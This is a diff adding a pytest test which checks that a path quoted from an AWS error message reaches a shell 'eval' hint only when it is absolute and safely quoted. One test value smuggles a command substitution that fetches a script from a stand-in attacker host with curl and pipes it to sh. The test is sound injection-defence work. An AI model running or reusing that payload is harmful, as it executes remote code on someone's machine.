@@ -96,3 +96,30 @@ def test_local_endpoint_never_gets_real_credentials(monkeypatch, local_aws):
 
     credentials = AwsClients(AwsConfig(endpoint_url=local_aws)).session.get_credentials()
     assert credentials.access_key == local_credentials.load(local_aws).access_key_id
+
+
+@pytest.mark.parametrize(
+    "owner, shown",
+    [
+        ("'/home/me/proj/.mlops'", "MLOPS_HOME=/home/me/proj/.mlops"),
+        ("'/tmp/a b/$(x)'", "MLOPS_HOME='/tmp/a b/$(x)'"),
+        ("$(curl${IFS}-s${IFS}attacker.invalid/x|sh)", None),
+        ("relative/home", None),
+    ],
+)
+def test_another_homes_path_reaches_the_eval_hint_only_quoted_and_absolute(owner, shown):
+    """Whatever listens on the port writes this message: its path is pasted into `eval "$(...)"` only when it is a
+    plain absolute path, quoted for the shell."""
+    error = translate_error(
+        aws_error(
+            "InvalidClientTokenId",
+            f"The security token included in the request is invalid: it belongs to MLOPS_HOME={owner} (pid 1)",
+            "ListBuckets",
+            403,
+        )
+    )
+    text = f"{error} {error.hint}"
+    if shown is None:
+        assert "belongs to another home" not in text and "eval" not in text and "$(curl" not in (error.hint or "")
+    else:
+        assert "belongs to another home" in text and f'eval "$({shown} mlops local env)"' in text
